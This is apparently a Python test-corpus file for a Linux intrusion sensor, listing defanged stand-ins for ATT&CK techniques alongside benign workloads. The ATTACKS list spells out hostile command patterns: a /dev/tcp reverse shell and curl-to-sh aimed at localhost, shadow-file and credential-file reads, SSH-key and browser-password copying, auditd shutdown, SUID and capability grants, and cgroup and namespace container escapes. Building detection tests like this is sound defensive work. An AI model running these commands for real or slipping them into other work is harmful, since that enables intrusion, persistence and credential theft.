"""The efficacy corpus: one harmless stand-in per Linux ATT&CK technique, and a benign workload.

Each attack does what an intruder does, to the point where the sensor sees it, and no further (a
reverse shell to a closed local port, a cron file created and removed at once, a capability
granted on a throw-away copy of /bin/true). ``{home}`` is a watched stand-in for /home, ``{tmp}``
a directory under /tmp, ``{keep}`` a scratch directory outside /tmp; all are removed afterwards.
The public source for most of these is Atomic Red Team's Linux atomics (read for ideas only).
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Action:
    technique: str
    tactic: str
    name: str
    script: str  # run with /bin/sh -c after str.format(home=..., tmp=..., keep=..., py=...)


ATTACKS = [
    Action("T1059.004", "execution", "bash reverse shell",
           "bash -c 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1'; true"),
    Action("T1105", "command-and-control", "curl piped into sh",
           "curl -fsS --max-time 1 http://127.0.0.1:9/x | sh; true"),
    Action("T1027", "defense-evasion", "base64 piped into sh",
           "echo ZWNobyBhdXJvcmE= | base64 -d | sh"),
    Action("T1620", "defense-evasion", "exec from memfd",
           "{py} -c 'import os,subprocess;fd=os.memfd_create(\"x\",0);"
           "os.write(fd,open(\"/bin/true\",\"rb\").read());"
           "subprocess.run([f\"/proc/self/fd/{{fd}}\"],pass_fds=[fd])'"),
    Action("T1070.004", "defense-evasion", "exec of a deleted binary",
           "cp /bin/sleep {tmp}/gone && ({tmp}/gone 1 &) && sleep 0.2 && rm -f {tmp}/gone"),
    Action("T1574.006", "persistence", "LD_PRELOAD on a command line",
           "env LD_PRELOAD=/nonexistent/evil.so /bin/true"),
    Action("T1098.004", "persistence", "authorized_keys appended",
           "mkdir -p {home}/u/.ssh && echo 'ssh-ed25519 AAAA x' >> {home}/u/.ssh/authorized_keys"),
    Action("T1053.003", "persistence", "cron file dropped",
           "echo '* * * * * root true' > /etc/cron.d/aurora-eff && rm -f /etc/cron.d/aurora-eff"),
    Action("T1543.002", "persistence", "systemd user unit",
           "mkdir -p {home}/u/.config/systemd/user && printf '[Service]\\n' > "
           "{home}/u/.config/systemd/user/eff.service"),
    Action("T1546.004", "persistence", "bashrc appended",
           "mkdir -p {home}/u && echo 'curl x|sh' >> {home}/u/.bashrc"),
    Action("T1136.001", "persistence", "passwd opened for writing",
           "{py} -c 'import os;os.close(os.open(\"/etc/passwd\",os.O_WRONLY|os.O_APPEND))'"),
    Action("T1548.001", "privilege-escalation", "SUID bit set",
           "cp /bin/true {keep}/s && chmod u+s {keep}/s && rm -f {keep}/s"),
    Action("T1548", "privilege-escalation", "dangerous capability granted",
           "cp /bin/true {keep}/c && setcap cap_setuid+ep {keep}/c; rm -f {keep}/c"),
    Action("T1055.008", "defense-evasion", "ptrace attach",
           "{py} -c 'import ctypes,os,subprocess;l=ctypes.CDLL(None);"
           "l.ptrace.argtypes=[ctypes.c_long]*2+[ctypes.c_void_p]*2;"
           "t=subprocess.Popen([\"sleep\",\"5\"]);l.ptrace(16,t.pid,None,None);"
           "os.waitpid(t.pid,0);l.ptrace(17,t.pid,None,None);t.kill()'"),
    Action("T1070.003", "defense-evasion", "shell history cleared",
           "mkdir -p {home}/u && echo ls > {home}/u/.bash_history && rm -f {home}/u/.bash_history"),
    Action("T1070.006", "defense-evasion", "timestomp",
           "touch -r /bin/ls {keep}/t && rm -f {keep}/t"),
    Action("T1070.002", "defense-evasion", "log truncated",
           "truncate -s0 /var/log/aurora-eff.log && rm -f /var/log/aurora-eff.log"),
    Action("T1562.001", "defense-evasion", "auditd stopped", "systemctl stop auditd; true"),
    Action("T1204.002", "execution", "binary run from /tmp",
           "cp /bin/true {tmp}/run && {tmp}/run"),
    Action("T1014", "defense-evasion", "BPF program loaded",
           "bpftool prog loadall {bpf} /sys/fs/bpf/aurora-eff; rm -rf /sys/fs/bpf/aurora-eff"),
    Action("T1572", "command-and-control", "ssh dynamic forward",
           "ssh -o BatchMode=yes -o ConnectTimeout=1 -N -D 11080 eff@127.0.0.1; true"),
    Action("T1496", "impact", "miner with a pool URL",
           "echo stratum+tcp://pool.invalid:3333 > /dev/null"),
    Action("T1222.002", "defense-evasion", "immutable attribute removed",
           "touch {keep}/i && chattr -i {keep}/i; rm -f {keep}/i"),
    Action("T1003.008", "credential-access", "shadow file read", "cat /etc/shadow > /dev/null"),
    Action("T1552.004", "credential-access", "SSH private key copied",
           "mkdir -p {home}/u/.ssh && echo k > {home}/u/.ssh/id_rsa && "
           "cp {home}/u/.ssh/id_rsa {keep}/loot"),
    Action("T1552.001", "credential-access", "AWS credentials read",
           "mkdir -p {home}/u/.aws && echo k > {home}/u/.aws/credentials && "
           "cat {home}/u/.aws/credentials > /dev/null"),
    Action("T1555.003", "credential-access", "Firefox password store copied",
           "mkdir -p {home}/u/.mozilla/firefox/p.default && "
           "echo x > {home}/u/.mozilla/firefox/p.default/logins.json && "
           "cp {home}/u/.mozilla/firefox/p.default/logins.json {keep}/l"),
    Action("T1071.004", "command-and-control", "DNS question over TCP",
           "{py} -c 'import socket,struct;a=(\"127.0.0.86\",53);s=socket.create_server(a);"
           "c=socket.create_connection(a);"
           "q=struct.pack(\"!6H\",1,256,1,0,0,0)+b\"\\x04aGVs\\x01t\\x07example\\x00\\x00\\x10\\x00\\x01\";"
           "c.sendall(struct.pack(\"!H\",len(q))+q)'"),
    Action("T1082", "discovery", "system information", "uname -a > /dev/null"),
    Action("T1033", "discovery", "current user", "whoami > /dev/null; id > /dev/null"),
    # the escape family (docs/visibility-linux.md)
    Action("T1611", "privilege-escalation", "cgroup release_agent written",
           "unshare -m sh -c 'mkdir -p {tmp}/cg && "
           "mount -t cgroup -o none,name=aurora-eff cgroup {tmp}/cg && "
           "echo /bin/true > {tmp}/cg/release_agent'"),
    Action("T1611", "privilege-escalation", "host root bind-mounted",
           "unshare -m sh -c 'mkdir -p {tmp}/host && mount --bind / {tmp}/host'"),
    Action("T1611", "privilege-escalation", "nsenter into the host namespace",
           "unshare -m nsenter --mount=/proc/$$/ns/mnt true"),
    Action("T1068", "privilege-escalation", "unshare -r then mount",
           "setpriv --reuid=65534 --regid=65534 --clear-groups "
           "unshare -r -m mount -t tmpfs none /mnt"),
    Action("T1036.004", "defense-evasion", "renamed to a kernel thread",
           "{py} -c 'import ctypes;ctypes.CDLL(None).prctl(15,b\"kworker/0:2\",0,0,0)'"),
    Action("T1548.001", "privilege-escalation", "setuid to root by a non-root process",
           "{py} -c 'import os;os.setresuid(1000,0,0);os.setuid(0)'"),
    Action("T1548", "privilege-escalation", "capset raising CAP_SYS_ADMIN",
           "{py} -c 'import ctypes,os;l=ctypes.CDLL(None);l.prctl(8,1,0,0,0);"
           "os.setresgid(65534,65534,65534);os.setresuid(65534,65534,65534);"
           "h=(ctypes.c_uint32*2)(0x20080522,0);d=(ctypes.c_uint32*6)();"
           "l.capget(h,d);d[0]|=1<<21;l.capset(h,d)'"),
]  # fmt: skip

BENIGN = [
    Action("-", "benign", "python venv", "{py} -m venv --without-pip {keep}/venv"),
    Action("-", "benign", "git commit",
           "cd {keep} && git init -q repo && cd repo && echo x > f && git add f && "
           "git -c user.email=a@b -c user.name=a commit -qm init"),
    Action("-", "benign", "compile C",
           "printf 'int main(void){{return 0;}}\\n' > {keep}/m.c && gcc -o {keep}/m {keep}/m.c "
           "&& {keep}/m"),
    Action("-", "benign", "tar round trip",
           "tar czf {keep}/a.tgz -C /etc hostname && tar xzf {keep}/a.tgz -C {keep}"),
    Action("-", "benign", "package query",
           "dpkg -l bash > /dev/null; apt-cache policy bash > /dev/null"),
    Action("-", "benign", "service status", "systemctl status ssh > /dev/null 2>&1; true"),
    Action("-", "benign", "download to a file",
           "curl -fsS --max-time 1 -o {keep}/page http://127.0.0.1:9/ ; true"),
    Action("-", "benign", "container-style namespaces", "unshare -n -m true"),
    Action("-", "benign", "cron job at work", "date > {keep}/cron.log && gzip -f {keep}/cron.log"),
    Action("-", "benign", "process listing", "ps aux > /dev/null && df -h > /dev/null"),
    Action("-", "benign", "ssh version", "ssh -V 2> /dev/null"),
    Action("-", "benign", "touch a file", "touch {keep}/stamp"),
    Action("-", "benign", "base64 to a file", "echo aGk= | base64 -d > {keep}/hi"),
    Action("-", "benign", "password ageing check", "chage -l root > /dev/null; passwd -S root"),
    Action("-", "benign", "SSH key made and shown",
           "mkdir -p {home}/v/.ssh && rm -f {home}/v/.ssh/id_ed25519* && "
           "ssh-keygen -q -t ed25519 -N '' -f {home}/v/.ssh/id_ed25519 && "
           "ssh-keygen -y -f {home}/v/.ssh/id_ed25519 > /dev/null"),
    Action("-", "benign", "container runtime mounts",
           "unshare -m -p -f --mount-proc sh -c 'mount -t tmpfs none /mnt && "
           "mkdir -p /mnt/a /mnt/b && mount --bind /mnt/a /mnt/b'"),
    Action("-", "benign", "threads and process named",
           "{py} -c 'import ctypes,threading;l=ctypes.CDLL(None);"
           "t=threading.Thread(target=lambda:l.prctl(15,b\"worker-1\",0,0,0));"
           "t.start();t.join();l.prctl(15,b\"myapp\",0,0,0)'"),
    Action("-", "benign", "root drops to nobody",
           "setpriv --reuid=65534 --regid=65534 --clear-groups true"),
    Action("-", "benign", "sealed memfd buffer", "{py} -c 'import os;os.memfd_create(\"buf\",9)'"),
]  # fmt: skip
